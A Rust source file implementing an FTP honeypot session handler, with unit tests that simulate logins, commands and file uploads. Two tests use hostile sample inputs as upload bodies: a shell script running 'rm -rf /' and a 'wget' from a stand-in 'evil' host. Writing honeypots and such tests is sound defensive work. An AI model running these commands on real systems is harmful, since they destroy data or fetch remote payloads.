//! FTP honeypot handler

use std::net::SocketAddr;
use tracing::{debug, info};

use super::line::{split_command, LineBuffer};
use super::{ConnectionHandler, CoreServices, HandlerError, Reply, Session};

pub struct FtpHandler {
    banner: String,
}

impl FtpHandler {
    pub fn new(banner: &str) -> Self {
        Self {
            banner: banner.to_string(),
        }
    }
}

impl ConnectionHandler for FtpHandler {
    fn service(&self) -> &'static str {
        "ftp"
    }

    fn open(&self, _peer: SocketAddr) -> Box<dyn Session> {
        Box::new(FtpSession {
            banner: self.banner.clone(),
            state: FtpState::AwaitingUser,
            lines: LineBuffer::default(),
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum FtpState {
    AwaitingUser,
    AwaitingPass { username: String },
    Authenticated { username: String },
    /// STOR accepted; the next chunk is the upload body
    Receiving { username: String },
    Closed,
}

struct FtpSession {
    banner: String,
    state: FtpState,
    lines: LineBuffer,
}

impl Session for FtpSession {
    fn greeting(&mut self) -> Option<Vec<u8>> {
        Some(format!("{}\r\n", self.banner).into_bytes())
    }

    fn handle(
        &mut self,
        input: &[u8],
        peer: SocketAddr,
        _core: &dyn CoreServices,
    ) -> Result<Reply, HandlerError> {
        let mut reply = Reply::none();

        if matches!(self.state, FtpState::Receiving { .. }) {
            // Upload body already went through capture with the rest of the chunk
            self.finish_upload(input.len(), peer, &mut reply);
            return Ok(reply);
        }

        let mut lines = self.lines.push(input)?.into_iter();
        while let Some(line) = lines.next() {
            self.command(&line, peer, &mut reply);
            if self.state == FtpState::Closed {
                reply.close = true;
                break;
            }
            if matches!(self.state, FtpState::Receiving { .. }) {
                // Whatever follows STOR in this chunk is the upload body
                let body = lines.by_ref().map(|l| l.len() + 1).sum::<usize>() + self.lines.pending();
                if body > 0 {
                    self.lines.clear();
                    self.finish_upload(body, peer, &mut reply);
                }
                break;
            }
        }
        Ok(reply)
    }
}

impl FtpSession {
    fn finish_upload(&mut self, len: usize, peer: SocketAddr, reply: &mut Reply) {
        if let FtpState::Receiving { username } = std::mem::replace(&mut self.state, FtpState::AwaitingUser) {
            debug!("FTP upload of {} bytes from {} ({})", len, peer, username);
            self.state = FtpState::Authenticated { username };
            reply.line("226 Transfer complete.");
        }
    }

    fn command(&mut self, line: &str, peer: SocketAddr, reply: &mut Reply) {
        let (command, arg) = split_command(line);
        if command.is_empty() {
            return;
        }
        debug!("FTP command from {}: {}", peer, line);

        match command.as_str() {
            "USER" => {
                self.state = FtpState::AwaitingPass {
                    username: arg.to_string(),
                };
                reply.line("331 Password required for user.");
            }
            "PASS" => match std::mem::replace(&mut self.state, FtpState::AwaitingUser) {
                FtpState::AwaitingPass { username } => {
                    info!("FTP login: {}:{} from {}", username, arg, peer);
                    self.state = FtpState::Authenticated { username };
                    reply.line("230 User logged in, proceed.");
                }
                previous => {
                    self.state = previous;
                    reply.line("503 Login with USER first.");
                }
            },
            "QUIT" => {
                self.state = FtpState::Closed;
                reply.line("221 Goodbye.");
            }
            _ => match &self.state {
                FtpState::Authenticated { username } => {
                    let username = username.clone();
                    self.authenticated_command(&command, username, reply);
                }
                _ => reply.line("530 Not logged in."),
            },
        }
    }

    fn authenticated_command(&mut self, command: &str, username: String, reply: &mut Reply) {
        match command {
            "SYST" => reply.line("215 UNIX Type: L8"),
            "PWD" => reply.line("257 \"/\" is current directory"),
            "TYPE" => reply.line("200 Type set"),
            "PASV" => reply.line("227 Entering Passive Mode (127,0,0,1,100,100)"),
            "LIST" | "NLST" => {
                reply.line("150 Opening data connection.");
                reply.line("226 Transfer complete.");
            }
            "STOR" => {
                self.state = FtpState::Receiving { username };
                reply.line("150 Opening data connection.");
            }
            _ => reply.line("200 Command okay."),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::feed;
    use super::*;

    fn session() -> Box<dyn Session> {
        FtpHandler::new("220 Welcome to the FTP honeypot").open(super::super::testing::peer())
    }

    #[test]
    fn test_login_flow() {
        let mut session = session();
        assert_eq!(
            session.greeting().unwrap(),
            b"220 Welcome to the FTP honeypot\r\n"
        );
        assert_eq!(feed(session.as_mut(), "USER test\r\n"), ("331 Password required for user.\r\n".into(), false));
        assert_eq!(feed(session.as_mut(), "PASS test\r\n"), ("230 User logged in, proceed.\r\n".into(), false));
        assert_eq!(feed(session.as_mut(), "QUIT\r\n"), ("221 Goodbye.\r\n".into(), true));
    }

    #[test]
    fn test_commands_before_login_refused() {
        let mut session = session();
        assert_eq!(feed(session.as_mut(), "SYST\r\n").0, "530 Not logged in.\r\n");
        assert_eq!(feed(session.as_mut(), "PASS nope\r\n").0, "503 Login with USER first.\r\n");
    }

    #[test]
    fn test_authenticated_commands() {
        let mut session = session();
        feed(session.as_mut(), "USER a\r\nPASS b\r\n");
        assert_eq!(feed(session.as_mut(), "SYST\r\n").0, "215 UNIX Type: L8\r\n");
        assert_eq!(feed(session.as_mut(), "CWD /tmp\r\n").0, "200 Command okay.\r\n");
    }

    #[test]
    fn test_stor_consumes_next_chunk() {
        let mut session = session();
        feed(session.as_mut(), "USER a\r\nPASS b\r\n");
        assert_eq!(feed(session.as_mut(), "STOR x.sh\r\n").0, "150 Opening data connection.\r\n");
        assert_eq!(feed(session.as_mut(), "#!/bin/sh\nrm -rf /\n").0, "226 Transfer complete.\r\n");
        assert_eq!(feed(session.as_mut(), "PWD\r\n").0, "257 \"/\" is current directory\r\n");
    }

    #[test]
    fn test_stor_with_body_in_same_chunk() {
        let mut session = session();
        feed(session.as_mut(), "USER a\r\nPASS b\r\n");
        assert_eq!(
            feed(session.as_mut(), "STOR x\r\nPWD\r\n").0,
            "150 Opening data connection.\r\n226 Transfer complete.\r\n"
        );
        assert_eq!(feed(session.as_mut(), "SYST\r\n").0, "215 UNIX Type: L8\r\n");
    }

    #[test]
    fn test_stor_with_partial_body_line() {
        let mut session = session();
        feed(session.as_mut(), "USER a\r\nPASS b\r\n");
        assert_eq!(
            feed(session.as_mut(), "STOR x\r\nwget http://evil/x").0,
            "150 Opening data connection.\r\n226 Transfer complete.\r\n"
        );
        assert_eq!(feed(session.as_mut(), "PWD\r\n").0, "257 \"/\" is current directory\r\n");
    }

    #[test]
    fn test_quit_stops_processing_rest_of_chunk() {
        let mut session = session();
        let (text, close) = feed(session.as_mut(), "QUIT\r\nUSER late\r\n");
        assert_eq!(text, "221 Goodbye.\r\n");
        assert!(close);
    }
}
